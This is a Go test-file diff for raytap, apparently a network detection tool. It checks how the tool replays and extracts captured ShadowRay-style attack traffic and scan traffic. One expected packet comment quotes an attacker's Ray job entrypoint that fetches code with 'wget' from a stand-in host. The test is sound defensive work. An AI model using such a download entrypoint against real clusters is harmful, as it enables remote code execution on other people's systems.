@@ -542,3 +542,86 @@ func TestReportSaysWhatItCannotRead(t *testing.T) {
 		t.Error("a report of another run's logs")
 	}
 }
+
+// finding gives the id and flow of a rule's finding in the logs in dir.
+func finding(t *testing.T, dir, rule string) (id, uid string) {
+	t.Helper()
+	for line := range strings.Lines(read(t, dir, "raytap-logs", "notice.log")) {
+		var row map[string]any
+		if err := json.Unmarshal([]byte(line), &row); err != nil {
+			t.Fatal(err)
+		}
+		if row["rule"] == rule {
+			uid, _ = row["uid"].(string)
+			return row["finding_id"].(string), uid
+		}
+	}
+	t.Fatalf("no finding %s", rule)
+	return "", ""
+}
+
+// TestExtract: of a capture in which the attack stands between other packets, the attack's come out, with comments at
+// the evidence, and raytap finds the same in them.
+func TestExtract(t *testing.T) {
+	pcap, err := filepath.Abs("../../pcaps/shadowray.pcap.gz")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	invoke(t, dir, nil, "replay", "--quiet", "--format=json", pcap).expect(t, 0, "", "")
+	id, uid := finding(t, dir, "jobsubmit/external")
+	invoke(t, dir, nil, "extract", "--finding", id, "-o", "job.pcapng", pcap).expect(t, 0, "job.pcapng: 10 packets", "")
+	invoke(t, dir, nil, "extract", "--uid", uid, pcap).expect(t, 0, uid+".pcapng: 10 packets", "")
+	r := invoke(t, dir, nil, "replay", "--format=json", "job.pcapng")
+	r.expect(t, 0, "jobsubmit/external", "")
+	if again, _ := finding(t, dir, "jobsubmit/external"); again != id {
+		t.Errorf("the finding has another name in its extract: %s, %s", again, id)
+	}
+
+	tshark, err := exec.LookPath("tshark")
+	if err != nil {
+		t.Skip("no tshark here")
+	}
+	cmd := exec.Command(tshark, "-r", filepath.Join(dir, "job.pcapng"), "-Y", "frame.comment", "-T", "fields", "-e", "frame.comment")
+	out, err := cmd.Output()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"raytap jobsubmit/external (critical): 203.0.113.66 ran a job", "entrypoint = wget -q http://198.51.100.77/", "raytap jobsubmit/dropper", "packet 10 of the capture", "packet 12 of the capture"} {
+		if !strings.Contains(string(out), want) {
+			t.Errorf("no comment says %q: %s", want, out)
+		}
+	}
+	if n := strings.Count(string(out), "of the capture"); n != 2 {
+		t.Errorf("%d packets have comments", n)
+	}
+}
+
+// TestExtractOfManyFlows: a scan is a finding over many flows.
+func TestExtractOfManyFlows(t *testing.T) {
+	pcap, err := filepath.Abs("../../pcaps/attack-scan.pcap.gz")
+	if err != nil {
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	invoke(t, dir, nil, "replay", "--quiet", "--format=json", pcap).expect(t, 0, "", "")
+	id, _ := finding(t, dir, "scan/hosts")
+	r := invoke(t, dir, nil, "extract", "--finding="+id, pcap)
+	r.expect(t, 0, " packets", "")
+	if strings.Contains(r.stdout, ": 0 packets") {
+		t.Error(r.stdout)
+	}
+}
+
+func TestExtractSaysWhatItCannotFind(t *testing.T) {
+	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
+	invoke(t, dir, nil, "extract", "--finding", "Rnone", "a.pcap").expect(t, 1, "", "there is no finding Rnone in a.pcap")
+	invoke(t, dir, nil, "extract", "--uid", "Cnone", "a.pcap").expect(t, 1, "", "there is no flow Cnone")
+	invoke(t, dir, nil, "extract", "a.pcap").expect(t, 2, "", "one of --finding and --uid")
+	invoke(t, dir, nil, "extract", "--finding=a", "--uid=b", "a.pcap").expect(t, 2, "", "one of --finding and --uid")
+	invoke(t, dir, nil, "extract", "--finding=a", "-").expect(t, 2, "", "standard input")
+	invoke(t, dir, nil, "extract", "--finding=a").expect(t, 2, "", "no capture")
+	if files, err := os.ReadDir(dir); err != nil || len(files) != 1 {
+		t.Errorf("left behind: %v", files)
+	}
+}
